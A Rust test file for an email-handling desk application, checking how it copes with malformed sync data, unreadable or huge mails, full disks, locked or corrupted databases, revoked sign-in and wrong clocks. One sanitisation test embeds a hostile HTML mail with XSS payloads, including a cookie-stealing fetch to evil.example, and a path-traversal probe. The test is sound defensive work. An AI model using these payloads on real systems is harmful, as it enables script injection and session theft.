//! What goes wrong outside: each thing ends in a plain sentence, loses nothing, and work goes on where it was.

use chrono::TimeDelta;
use pebble_core::{
    engines::{ENGINES, email::model::folder},
    kernel::Code,
};
use pebble_simulators::{Fault, MailBody, NewMessage};
use pebble_store::{OpenError, Store, backups, restore, set_aside};
use pebble_tests::{Rig, mails, noon};
use sea_orm::{ColumnTrait, ConnectionTrait, EntityTrait, QueryFilter};
use serde_json::{Value, json};

use super::storage::{number, plain};
use crate::engines::acts::{detail, mail, mails as list, quote, sequence};

/// Where the reading of the inbox stands.
async fn cursor(rig: &Rig) -> Option<String> {
    let inbox = folder::Column::RemoteId.eq(rig.mailbox.folder_id("inbox").unwrap());
    let found = folder::Entity::find().filter(inbox).one(rig.desk.store().reader()).await.unwrap();
    found.unwrap().cursor
}

pub async fn status(rig: &Rig) -> Value {
    rig.ask("app.status", json!({})).await
}

/// A turn that does not succeed, in its own words.
pub async fn failing_turn(rig: &Rig) -> String {
    rig.desk.turn().await.expect_err("the turn succeeded").to_string()
}

#[tokio::test]
async fn a_malformed_page_moves_no_cursor_and_the_next_turn_brings_its_mail() {
    let rig = Rig::new().await;
    rig.turn().await;
    let before = cursor(&rig).await;
    rig.deliver(mails::rfq());
    rig.sim.fault(Fault {
        path: "messages/delta".into(),
        body: Some("{\"value\": [{\"id\": \"A".into()),
        ..Fault::default()
    });
    let words = failing_turn(&rig).await;
    assert!(words.contains("unreadable") && words.contains("asked for again"), "{words}");
    assert_eq!(cursor(&rig).await, before);
    let shown = status(&rig).await["sync"].clone();
    assert_eq!((shown["state"].clone(), shown["message"].clone()), (json!("error"), json!(words)));
    rig.turn().await;
    rig.only_enquiry().await;
    assert_eq!(status(&rig).await["sync"]["message"], Value::Null);
    rig.assert_all_accounted_for().await;
}

#[tokio::test]
async fn a_mail_that_cannot_be_listed_is_set_aside_counted_and_can_be_asked_for_again() {
    let rig = Rig::new().await;
    let mut poison = mails::mail("odd@elsewhere.example", "Odd", "Odd", "What day is it?");
    poison.overrides.insert("receivedDateTime".to_owned(), json!("the day before yesterday"));
    rig.deliver(poison);
    rig.deliver(mails::rfq());
    rig.turn().await;
    rig.only_enquiry().await;
    rig.assert_all_accounted_for().await;
    assert_eq!(rig.ask("email.counts", Value::Null).await["quarantined"], 1);
    let aside = rig.ask("email.unreadable", Value::Null).await;
    assert_eq!((aside.as_array().unwrap().len(), aside[0]["attempts"].clone()), (1, json!(1)));
    assert!(aside[0]["reason"].as_str().unwrap().contains("receivedDateTime"), "{aside}");
    rig.tell("email.retry_unreadable", Value::Null).await;
    rig.turn().await;
    assert_eq!(rig.ask("email.unreadable", Value::Null).await[0]["attempts"], 2);
    rig.assert_all_accounted_for().await;
    let odd = rig.mailbox.messages_in("inbox").into_iter().last().unwrap();
    assert!(rig.mailbox.delete(&odd));
    rig.turn().await;
    assert_eq!(rig.ask("email.unreadable", Value::Null).await, json!([]));
    rig.assert_all_accounted_for().await;
}

#[tokio::test]
async fn a_mail_whose_body_cannot_be_read_waits_for_a_person_and_is_read_when_it_is_sound_again() {
    let rig = Rig::new().await;
    let id = rig.deliver(mails::rfq());
    rig.deliver(mails::mail("someone@elsewhere.example", "Someone", "At the fair", "Hello, it was nice to see you."));
    let body = Some(json!({ "id": id, "body": 5 }).to_string());
    rig.sim.fault(Fault { method: "GET".into(), path: format!("/messages/{id}"), body, ..Fault::default() });
    rig.turn().await;
    let unread = mail(&rig, "Requirement of Zinc oxide").await;
    assert_eq!(unread["disposition"], "unclassified", "{unread}");
    assert!(unread["reason"].as_str().unwrap().starts_with("Could not be read"), "{unread}");
    assert!(!mail(&rig, "At the fair").await["intent"].is_null());
    rig.assert_all_accounted_for().await;
    rig.tell("email.retry_unreadable", Value::Null).await;
    rig.turn().await;
    assert_eq!(mail(&rig, "Requirement of Zinc oxide").await["disposition"], "linked");
    assert_eq!(rig.ask("email.unreadable", Value::Null).await, json!([]));
    rig.assert_all_accounted_for().await;
}

#[tokio::test]
async fn a_body_of_thirty_megabytes_is_cut_and_says_so_and_holds_nothing_up() {
    let rig = Rig::new().await;
    let row = "<p>Please quote for 5 MT Zinc oxide, white seal grade, żółć.</p>\n";
    let huge = row.repeat(30 * 1024 * 1024 / row.len());
    rig.deliver(NewMessage { body: MailBody::Html(huge), ..mails::mail(mails::RAMESH, "Ramesh Iyer", "Huge", "") });
    rig.deliver(mails::rfq());
    rig.turn().await;
    let cut = rig.ask("email.detail", json!({ "id": mail(&rig, "Huge").await["id"] })).await;
    assert_eq!((cut["is_truncated"].clone(), cut["is_pending"].clone()), (json!(true), json!(false)));
    assert!(cut["text"].as_str().unwrap().len() < 4 * 1024 * 1024);
    assert_eq!(mail(&rig, "Requirement of Zinc oxide").await["disposition"], "linked");
    rig.assert_all_accounted_for().await;
}

#[tokio::test]
async fn a_hostile_mail_shows_its_words_and_nothing_that_acts() {
    let rig = Rig::new().await;
    let hostile = r#"<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
        <style>body{background:url(http://evil.example/a.png)} @import "http://evil.example/b.css";</style></head>
        <body onload="steal()"><p style="background-image:url('http://evil.example/c.png');color:red">Please quote for Zinc oxide.</p>
        <script>fetch('http://evil.example/'+document.cookie)</script><img src=x onerror="alert(1)">
        <img src="http://evil.example/pixel.gif" width="1"><a href="javascript:alert(1)">Price list</a>
        <a href="&#106;avascript:alert(1)">Terms</a><form action="http://evil.example/"><input name="password"></form>
        <iframe src="http://evil.example/"></iframe><svg onload="alert(1)"><script>alert(1)</script></svg>
        <object data="http://evil.example/"></object></body></html>"#;
    rig.deliver(NewMessage {
        body: MailBody::Html(hostile.to_owned()),
        ..mails::mail(mails::RAMESH, "Ramesh Iyer", "<script>alert(1)</script>", "")
    });
    rig.turn().await;
    let row = mail(&rig, "<script>alert(1)</script>").await;
    let page = rig.desk.mail_page(row["id"].as_str().unwrap()).await;
    let shown = String::from_utf8(page.body).unwrap();
    let (_, inside) = shown.split_once("</head>").unwrap();
    let inside = inside.to_lowercase();
    assert!(inside.contains("please quote for zinc oxide.") && inside.contains("price list"), "{inside}");
    for bad in [
        "<script",
        "onerror",
        "onload",
        "http-equiv",
        "javascript:",
        "<form",
        "<input",
        "<iframe",
        "<object",
        "<svg",
        "<base",
        "url(",
        "@import",
        " src=\"http",
        "alert(",
    ] {
        assert!(!inside.contains(bad), "{bad} in {inside}");
    }
    for rule in ["default-src 'none'", "form-action 'none'", "base-uri 'none'"] {
        assert!(page.csp.contains(rule), "{}", page.csp);
    }
    assert!(!page.csp.contains("script-src") && !page.csp.contains("http://*"), "{}", page.csp);
    for stranger in ["", "1", "../pebble.db", "00000000-0000-0000-0000-000000000000"] {
        assert_eq!(rig.desk.mail_page(stranger).await.status, 404, "{stranger}");
    }
}

/// Sets something on the one connection that writes.
async fn on_writer(rig: &Rig, pragma: &str) {
    let tx = rig.desk.store().begin().await.unwrap();
    tx.execute_unprepared(pragma).await.unwrap();
    tx.commit().await.unwrap();
}

#[tokio::test]
async fn a_full_disk_refuses_in_words_and_everything_goes_on_once_there_is_room() {
    let rig = Rig::new().await;
    rig.deliver(mails::rfq());
    rig.turn().await;
    let id = rig.only_enquiry().await;
    // SQLite itself says "full" when the file may not grow: the same answer as that of a disk.
    let full = "PRAGMA max_page_count = 1";
    on_writer(&rig, full).await;
    let note = json!({ "id": id, "text": "A long story. ".repeat(20_000) });
    let refusal = rig.refused("enquiries.note", note.clone()).await;
    assert_eq!(refusal.code, Code::Busy);
    assert!(refusal.message.contains("The disk is full") && refusal.message.contains("nothing was lost"), "{refusal}");
    on_writer(&rig, full).await;
    let long = "Any news about the price of Zinc oxide? ".repeat(20_000);
    rig.deliver(mails::answer("<rfq-1@nirmalpaints.example>", "Re: Requirement of Zinc oxide", &long));
    let words = failing_turn(&rig).await;
    assert!(words.contains("The disk is full"), "{words}");
    assert!(status(&rig).await["sync"]["message"].as_str().unwrap().contains("The disk is full"));
    assert_eq!(detail(&rig, &id).await["timeline"].as_array().unwrap().len(), 1);

    on_writer(&rig, "PRAGMA max_page_count = 1000000").await;
    rig.tell("enquiries.note", note).await;
    rig.turn().await;
    let rig = rig.restarted().await;
    assert_eq!(detail(&rig, &id).await["timeline"].as_array().unwrap().len(), 3);
    rig.assert_all_accounted_for().await;
}

#[tokio::test]
async fn a_database_that_another_program_holds_is_busy_and_the_same_command_works_afterwards() {
    let rig = Rig::new().await;
    let id = crate::engines::acts::card(&rig, "Zinc oxide", "medium").await;
    on_writer(&rig, "PRAGMA busy_timeout = 20").await;
    let other = plain(&rig.folder.path().join("pebble.db")).await;
    other.execute_unprepared("BEGIN EXCLUSIVE").await.unwrap();
    let note = json!({ "id": id, "text": "He decides on Friday." });
    let refusal = rig.refused("enquiries.note", note.clone()).await;
    assert_eq!(refusal.code, Code::Busy);
    assert!(
        refusal.message.contains("busy with another program") && refusal.message.contains("try again"),
        "{refusal}"
    );
    assert_eq!(detail(&rig, &id).await["timeline"].as_array().unwrap().len(), 1, "reading goes on");
    other.execute_unprepared("ROLLBACK").await.unwrap();
    rig.tell("enquiries.note", note).await;
    assert_eq!(detail(&rig, &id).await["timeline"].as_array().unwrap().len(), 2);
}

/// A desk with one enquiry and a backup, closed: its folder and its database file.
async fn closed_with_backup() -> (tempfile::TempDir, std::path::PathBuf) {
    let rig = Rig::new().await;
    rig.deliver(mails::rfq());
    rig.turn().await;
    let path = rig.folder.path().join("pebble.db");
    let store = rig.desk.store().clone();
    store.backup(&path.with_extension("20261118T053000.backup")).await.unwrap();
    store.backup(&path.with_extension("20261119T053000.backup")).await.unwrap();
    let Rig { desk, folder, .. } = rig;
    drop(desk);
    store.close().await;
    (folder, path)
}

async fn open(path: &std::path::Path) -> Result<Store, OpenError> {
    Store::sqlite(path, ENGINES, noon().into()).await
}

#[tokio::test]
async fn a_corrupted_database_is_named_and_a_backup_takes_its_place() {
    let (_folder, path) = closed_with_backup().await;
    let mut bytes = std::fs::read(&path).unwrap();
    let middle = bytes.len() / 3;
    bytes[middle..middle + 40_000].fill(0xA5);
    std::fs::write(&path, &bytes).unwrap();
    let problem = open(&path).await.unwrap_err();
    assert!(matches!(problem, OpenError::Damaged { .. }), "{problem}");
    assert!(problem.to_string().contains("Restore a backup"), "{problem}");
    assert_eq!(std::fs::read(&path).unwrap(), bytes, "the damaged file was touched");

    let copies = backups(&path);
    assert_eq!(copies.len(), 2);
    assert!(copies[0].path.to_string_lossy().contains("20261119"), "the newest comes first: {copies:?}");
    restore(&path, &copies[0].path, ENGINES, noon().into()).await.unwrap();
    let store = open(&path).await.unwrap();
    let kept = super::storage::found(&store, "zinc").await;
    assert_eq!(kept.as_array().unwrap().len(), 1, "{kept}");
    let damaged = std::fs::read_dir(path.parent().unwrap()).unwrap().flatten();
    assert!(
        damaged.into_iter().any(|file| file.file_name().to_string_lossy().ends_with(".aside")),
        "it was thrown away"
    );
}

#[tokio::test]
async fn a_file_that_is_no_database_can_be_set_aside_for_a_fresh_one() {
    let (_folder, path) = closed_with_backup().await;
    std::fs::write(&path, b"This was overwritten by a sync tool.").unwrap();
    let problem = open(&path).await.unwrap_err();
    assert!(matches!(problem, OpenError::Damaged { .. }), "{problem}");
    let aside = set_aside(&path, noon().into()).unwrap();
    assert_eq!(std::fs::read(aside).unwrap(), b"This was overwritten by a sync tool.");
    let store = open(&path).await.unwrap();
    assert_eq!(super::storage::found(&store, "zinc").await, json!([]));
}

#[tokio::test]
async fn a_database_of_a_newer_version_is_left_alone_and_says_what_to_do() {
    let (_folder, path) = closed_with_backup().await;
    let newer = plain(&path).await;
    newer
        .execute_unprepared("INSERT INTO seaql_migrations (version, applied_at) VALUES ('m9999_later', 1)")
        .await
        .unwrap();
    newer.close().await.unwrap();
    let problem = open(&path).await.unwrap_err();
    assert_eq!(problem, OpenError::Newer);
    assert!(problem.to_string().contains("update the program"), "{problem}");
    let kept = plain(&path).await;
    assert_eq!(number(&kept, "SELECT COUNT(*) FROM enquiry").await, 1);
}

#[tokio::test]
async fn a_revoked_sign_in_asks_to_sign_in_again_and_goes_on_where_it_was() {
    let rig = Rig::new().await;
    rig.deliver(mails::rfq());
    rig.turn().await;
    let id = rig.only_enquiry().await;
    quote(&rig, &id).await;
    rig.pass_days_offline(1).await;
    rig.sim.revoke("asha.kulkarni@pebblechem.example");
    rig.deliver(mails::mail("someone@elsewhere.example", "Someone", "At the fair", "Hello, it was nice to see you."));
    let words = failing_turn(&rig).await;
    assert!(words.contains("Sign in again"), "{words}");
    let shown = status(&rig).await;
    assert_eq!(shown["sign_in"]["state"], "failed");
    let trouble = &shown["sign_in"]["trouble"];
    assert_eq!(trouble["remedy"], "again", "{shown}");
    assert!(trouble["reason"].as_str().unwrap().contains("Sign in again"), "{shown}");
    assert_eq!(shown["waiting_effects"], 1);
    assert_eq!(list(&rig, "linked", None).await.len(), 1);

    rig.sign_in().await;
    rig.turn().await;
    rig.turn().await;
    assert_eq!(status(&rig).await["sign_in"], json!({ "state": "signed_in", "trouble": null }));
    assert_eq!(rig.sim.sent().len(), 1);
    mail(&rig, "At the fair").await;
    rig.assert_all_accounted_for().await;
}

/// The main job on a computer whose clock is wrong by so much.
async fn with_wrong_clock(off: TimeDelta) {
    let rig = Rig::with_clock_off(off).await;
    rig.deliver(mails::rfq());
    rig.turn().await;
    let id = rig.only_enquiry().await;
    assert_eq!(sequence(&rig, &id, "enquiry_cadence").await["enrolment"]["state"], "active");
    quote(&rig, &id).await;
    // Two days are many lifetimes of a token: it is renewed by what has passed, not by what the clock says.
    rig.pass_days_offline(2).await;
    rig.turn().await;
    rig.turn().await;
    assert_eq!(rig.sim.sent().len(), 1);
    assert_eq!(sequence(&rig, &id, "quote_sent").await["steps"][0]["state"], "done");
    rig.deliver(mails::answer(
        "<rfq-1@nirmalpaints.example>",
        "Re: Requirement of Zinc oxide",
        "Your price is high. Can you reduce?",
    ));
    rig.turn().await;
    assert_eq!(sequence(&rig, &id, "quote_sent").await["enrolment"]["state"], "paused");
    rig.assert_all_accounted_for().await;
    rig.sim.assert_clean();
}

#[tokio::test]
async fn a_clock_three_hours_fast_changes_nothing() {
    with_wrong_clock(TimeDelta::hours(3)).await;
}

#[tokio::test]
async fn a_clock_three_hours_slow_changes_nothing() {
    with_wrong_clock(TimeDelta::hours(-3)).await;
}

#[tokio::test]
async fn an_answer_right_after_the_quote_pauses_even_when_the_clock_is_three_hours_fast() {
    let rig = Rig::with_clock_off(TimeDelta::hours(3)).await;
    rig.deliver(mails::rfq());
    rig.turn().await;
    let id = rig.only_enquiry().await;
    quote(&rig, &id).await;
    rig.pass(TimeDelta::hours(1));
    rig.deliver(mails::answer(
        "<rfq-1@nirmalpaints.example>",
        "Re: Requirement of Zinc oxide",
        "Your price is high. Can you reduce?",
    ));
    rig.turn().await;
    assert_eq!(sequence(&rig, &id, "quote_sent").await["enrolment"]["state"], "paused");
}
